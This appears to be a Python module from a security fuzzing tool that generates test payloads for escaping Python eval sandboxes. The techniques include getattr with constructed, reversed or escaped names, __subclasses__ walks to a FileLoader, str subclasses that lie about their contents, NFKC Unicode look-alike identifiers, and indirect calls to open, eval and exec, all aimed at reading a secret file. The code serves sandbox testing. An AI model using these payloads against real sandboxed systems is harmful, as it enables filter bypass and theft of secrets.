"""Attributes whose names are made, spelt or passed on where no check reads them."""

from collections.abc import Callable, Iterator

from capfuzz.attacks.evaluators import SECRET_FILE
from capfuzz.attacks.techniques.eval_parts import CANARY, READ, WRITE, evaluated, statements, valued

_STARTS = ("(lambda: 0)", "print", "setattr", "_getattr_", "sorted")
_LETTERS = {  # each of them NFKC makes an ASCII letter of
    "fullwidth": lambda c: chr(ord(c) + 0xFEE0) if c.isalpha() else c,
    "mathematical": lambda c: chr(0x1D5BA + ord(c) - ord("a")) if "a" <= c <= "z" else c,
}


def _by_getattr(thing: str, name: str) -> str:
    return f"getattr({thing}, '{name}')"


def _concatenated(thing: str, name: str) -> str:
    return f"getattr({thing}, '{name[:3]}' + '{name[3:]}')"


def _joined(thing: str, name: str) -> str:
    return f"getattr({thing}, ''.join({list(name)!r}))"


def _reversed(thing: str, name: str) -> str:
    return f"getattr({thing}, '{name[::-1]}'[::-1])"


def _formatted(thing: str, name: str) -> str:
    return f"getattr({thing}, '%s{name.strip('_')}%s' % ('__', '__'))"


def _escaped(thing: str, name: str) -> str:
    return f"getattr({thing}, '{_in_hex(name)}')"


def _in_hex(text: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in text)


def _by_method(thing: str, name: str) -> str:
    return f"{thing}.__getattribute__('{name}')"


def _by_object(thing: str, name: str) -> str:
    return f"object.__getattribute__({thing}, '{name}')"


def _by_type(thing: str, name: str) -> str:
    return f"type({thing}).__dict__['{name}'].__get__({thing})"


def _by_operator(thing: str, name: str) -> str:
    return f"operator.attrgetter('{name}')({thing})"


def _by_bare_getter(thing: str, name: str) -> str:
    return f"attrgetter('{name}')({thing})"


def _by_reduce(thing: str, name: str) -> str:
    return f"functools.reduce(getattr, ['{name}'], {thing})"


def _by_map(thing: str, name: str) -> str:
    return f"list(map(getattr, [{thing}], ['{name}']))[0]"


def _by_format_of_letters(thing: str, name: str) -> str:
    return f"getattr({thing}, f'{{chr(95)*2}}{name.strip('_')}{{chr(95)*2}}')"


_SPELLINGS: tuple[Callable[[str, str], str], ...] = (
    _by_getattr,
    _concatenated,
    _joined,
    _reversed,
    _formatted,
    _escaped,
    _by_method,
    _by_object,
    _by_type,
    _by_operator,
    _by_bare_getter,
    _by_reduce,
    _by_map,
    _by_format_of_letters,
)


@evaluated(
    "eval-attribute-by-name",
    group="attribute-by-name",
    cwe="CWE-184",
    platforms=("python",),
    needs="judges attributes behind a dot, and not names that are made at run time",
    refs=("https://cwe.mitre.org/data/definitions/184.html",),
)
def attribute_by_name() -> Iterator[str]:
    """Get the same attributes by names in strings: joined, reversed, escaped, passed on."""
    for spelt in _SPELLINGS:
        for start in _STARTS if spelt is _by_getattr else _STARTS[:2]:
            yield f"{spelt(start, '__globals__')}{CANARY}"
        yield f"{spelt('print', '__self__')}.open{READ}"
        classes = f"{spelt(spelt(spelt('()', '__class__'), '__base__'), '__subclasses__')}()"
        loader = f"[c for c in {classes} if 'FileLoader' in str(c)][0]"
        yield f"{loader}.get_data(0, '{SECRET_FILE}')"
    for module in ("operator", "functools"):
        spelt = _by_operator if module == "operator" else _by_reduce
        yield valued(f"{spelt('f', '__globals__')}{CANARY}", f"import {module}", "def f(): pass")


@evaluated(
    "eval-lying-name",
    group="lying-names",
    cwe="CWE-843",
    platforms=("python",),
    needs="asks a name whether it is harmless, and the name answers itself",
    refs=("https://cwe.mitre.org/data/definitions/843.html",),
)
def lying_name() -> Iterator[str]:
    """Pass a string whose methods say that it is harmless."""
    lies = (
        "    def startswith(self, *_): return False",
        "    def endswith(self, *_): return False",
        "    def __contains__(self, _): return False",
        "    def lower(self): return 'harmless'",
    )
    for start in ("(lambda: 0)", "print", "setattr", "_getattr_"):
        got = f"getattr({start}, Name('__globals__')){CANARY}"
        yield valued(got, "class Name(str):", *lies)
    yield valued(f"getattr(print, Name('__self__')).open{READ}", "class Name(str):", *lies)
    yield valued(
        f"getattr(f, A){CANARY}", "A = type('A', (str,), {})('__globals__')", "def f(): pass"
    )


@evaluated(
    "eval-unicode-names",
    group="eval-unicode",
    cwe="CWE-176",
    platforms=("python",),
    needs="looks for words in the text, which Python normalises (NFKC) when it reads names",
    refs=("https://peps.python.org/pep-3131/",),
)
def unicode_names() -> Iterator[str]:
    """Spell names in letters that Python reads as the plain ones."""
    for letters in _LETTERS.values():

        def spelt(name: str, letters: Callable[[str], str] = letters) -> str:
            return "".join(map(letters, name))

        yield f"{spelt('open')}{READ}"
        yield f"__{spelt('import')}__('os').{spelt('environ')}{CANARY}"
        yield f"print.__{spelt('self')}__.{spelt('open')}{READ}"
        yield f"(lambda: 0).__{spelt('globals')}__{CANARY}"
        yield f"(x for x in [1]).{spelt('gi')}_{spelt('frame')}.{spelt('f')}_{spelt('globals')}{CANARY}"
    low, wide = "\uff3f", "\ufe4f"  # marks that stand for a low line, though never in front
    yield f"(lambda: 0)._{low}globals_{low}{CANARY}"
    yield f"print._{wide}self_{wide}.open{READ}"
    yield f"()._{low}class_{low}._{low}base_{low}._{low}subclasses_{low}(){CANARY}"


@evaluated(
    "eval-odd-spelling",
    group="eval-spelling",
    cwe="CWE-184",
    platforms=("python",),
    needs="looks for words or patterns in the text of the code",
    refs=("https://cwe.mitre.org/data/definitions/184.html",),
)
def odd_spelling() -> Iterator[str]:
    """Part what belongs together by blanks, line breaks, brackets and escapes."""
    yield f"open ({READ[1:]}"
    yield f"(open){READ}"
    yield f"open\t{READ}"
    yield f"(open\n{READ})"
    yield f"(open # harmless\n{READ})"
    yield f"print . __self__ . open{READ}"
    yield f"(print\n.\n__self__).open{READ}"
    yield f"(lambda: 0) . __globals__ {CANARY}"
    yield f"eval('{_in_hex(f'open{READ}')}')"
    yield f"eval('op' + 'en(\"{SECRET_FILE}\").re' + 'ad()')"
    yield f"eval(bytes({list(f'open{READ}'.encode())!r}))"
    yield valued(f"open{READ}", "0", "#", "'''", "'''")
    yield f"0 or open{READ}"
    yield f"[20 + 22, open{READ}]"


@evaluated(
    "eval-indirect-call",
    group="indirect-call",
    cwe="CWE-184",
    platforms=("python",),
    needs="judges calls by the name that is called, and not what a value is",
    refs=("https://cwe.mitre.org/data/definitions/184.html",),
)
def indirect_call() -> Iterator[str]:
    """Call what is forbidden under another name: from a list, a default, a key function."""
    for open_ in (
        "(open,)[0]",
        "{'f': open}['f']",
        "(open if 1 else 0)",
        "(lambda f=open: f)()",
        "[f for f in [open]][0]",
        "(f := open)",
        "(0 or open)",
        "[*[open]][0]",
    ):
        yield f"{open_}{READ}"
    for run in ("eval", "exec"):
        source = f'"open{WRITE}"'
        yield f"list(map({run}, [{source}]))"
        yield f"max([{source}], key={run})"
        yield f"sorted([{source}], key={run})"
        yield f"list(filter({run}, [{source}]))"
    yield f"list(map(open, ['{SECRET_FILE}']))[0].read()"
    yield f"max(['{SECRET_FILE}'], key=open) and list(map(open, ['{SECRET_FILE}']))[0].read()"
    yield f"sum([open], start=[]){CANARY}"
    yield valued(f"f{READ}", "f = open")
    yield statements("for f in [open]:", f"    result = f{READ}")
    yield statements("def f(g=open):", f"    return g{READ}", "result = f()")
    yield statements(f"@(lambda f: open{READ})", "def result(): pass")
    yield statements("@eval", f'@(lambda f: "open{READ}")', "def result(): pass")
    yield statements("a, *b = open, 0", f"result = a{READ}")
    yield statements(
        "import functools", f"result = functools.partial(open, '{SECRET_FILE}')().read()"
    )
